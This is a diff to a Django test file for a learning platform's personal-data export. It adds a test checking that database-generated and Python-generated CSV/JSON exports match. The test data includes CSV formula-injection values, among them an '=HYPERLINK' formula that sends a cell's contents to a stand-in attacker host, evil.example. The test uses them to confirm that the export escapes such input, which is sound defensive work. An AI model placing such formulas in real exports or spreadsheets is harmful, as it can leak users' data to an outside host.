@@ -17,6 +17,7 @@ from decimal import Decimal
 from html import unescape
 
 import pytest
+import time_machine
 from axes.models import AccessAttempt
 from django.contrib.admin.models import ADDITION, LogEntry
 from django.contrib.contenttypes.models import ContentType
@@ -27,8 +28,9 @@ from django.utils import timezone
 from accounts.models import TOTPDevice, UserSession
 from accounts.services import personal_access_token_create, personal_access_token_revoke, signup_request
 from compliance.erasure import UNREADABLE_COLUMNS, erasure_execute
-from compliance.models import StaffGroup
+from compliance.models import AuditEvent, StaffGroup
 from compliance.registry import Delete, registry
+from compliance.services import audit_record
 from learnerportal.tests.factories import (
     PASSWORD,
     BackupCodeFactory,
@@ -46,7 +48,7 @@ from learnerportal.tests.factories import (
 )
 from privacy.models import PolicyVersion, ProcessingRun
 from privacy.services import consent_record, profile_visibility_update, restriction_start
-from rights_requests import services
+from rights_requests import portability, services
 from rights_requests.models import RequestFile, RightsRequest, Status
 from rights_requests.portability import portable_export_file
 from rights_requests.reports import access_report_file
@@ -157,6 +159,66 @@ def test_the_portable_copy_holds_every_declared_record_and_nothing_undeclared(no
         assert all(list(record) == columns for record in records), (
             f"{declaration.label}: only its declared, exportable, portable fields, in their declared order"
         )
+
+
+#: Values the database and Python must write alike: formulas, quotes, new lines, a backslash, control
+#: characters, other scripts, and times whose fraction has trailing zeros or none.
+AWKWARD = 'x=1, "quoted" \\ back\\slash, tab\there, new\nline, \x01 and 中文 🎓'
+AWKWARD_TIMES = [
+    datetime.datetime(2026, 3, 14, 9, 26, 52, 123400, tzinfo=datetime.UTC),
+    datetime.datetime(2026, 3, 14, 9, 26, 52, tzinfo=datetime.UTC),
+    datetime.datetime(2026, 3, 14, 9, 26, 52, 5, tzinfo=datetime.UTC),
+]
+
+
+def test_the_kinds_the_database_writes_are_byte_for_byte_what_python_writes(noor, monkeypatch):
+    """PostgreSQL writes the large kinds (``portable_sql``); a rule that drifted from Python's would show here."""
+    course = CourseFactory(title='=HYPERLINK("http://evil.example/?"&A1) "course" \\ 中文')
+    enrollment = EnrollmentFactory(user=noor, course=course, grade_percent=None, completed_at=None)
+    QuizResultFactory(enrollment=enrollment, quiz_title="@SUM(1)" + AWKWARD, score=0)
+    for when in AWKWARD_TIMES:
+        LearningEventFactory(user=noor, course=course, occurred_at=when)
+    PaymentFactory(user=noor, course=course, amount=Decimal("0.50"), method_summary="-" + AWKWARD)
+    UserSession.objects.filter(user=noor).update(user_agent="\t=cmd", created_at=AWKWARD_TIMES[0])
+    consent_record(
+        actor=noor, user=noor, purpose="marketing_email", granted=True, source="settings", note=" +" + AWKWARD
+    )
+    audit_record(
+        actor=noor,
+        subject=noor,
+        action=AuditEvent.Action.PROFILE_UPDATED,
+        changes={"bio": {"old": AWKWARD, "new": "＝1+1"}, "count": 3, "flags": [True, None]},
+    )
+    made_at = datetime.datetime(2026, 3, 14, 9, 30, tzinfo=datetime.UTC)
+    written_by = []
+    real_lines = portability.portable_lines
+
+    def lines(dataset, subject, **options):
+        chunks = real_lines(dataset, subject, **options)
+        written_by.append((dataset.declaration.records_name, chunks is not None))
+        return chunks
+
+    monkeypatch.setattr(portability, "portable_lines", lines)
+    with time_machine.travel(made_at, tick=False):
+        by_database = zip_entries(portable_export_file(noor))
+        monkeypatch.setattr(portability, "portable_lines", lambda dataset, subject, **options: None)
+        by_python = zip_entries(portable_export_file(noor))
+
+    database_kinds = {name for name, by_database in written_by if by_database}
+    assert {"account", "enrollments", "quiz_results", "payments", "learning_activity", "sessions"} <= database_kinds
+    assert {"consents", "activity_log", "prepared_copies", "authenticator_apps"} <= database_kinds
+    assert not {"profile", "failed_sign_ins", "data_rights_requests"} & database_kinds, "encrypted, export_as"
+    assert by_database.keys() == by_python.keys()
+    for name, content in by_python.items():
+        assert by_database[name] == content, name
+    assert "'=HYPERLINK(" in by_database["learning_activity.csv"].decode()
+    assert '"occurred_at": "2026-03-14T09:26:52.123400+00:00"' in by_database["learning_activity.json"].decode()
+
+
+def zip_entries(output):
+    """Return ``{name: bytes}`` of the ZIP in the binary file ``output``, and close it."""
+    with output, zipfile.ZipFile(output) as archive:
+        return {name: archive.read(name) for name in archive.namelist()}
 
 
 def test_no_column_of_the_portable_copy_is_empty_for_every_record(noor):
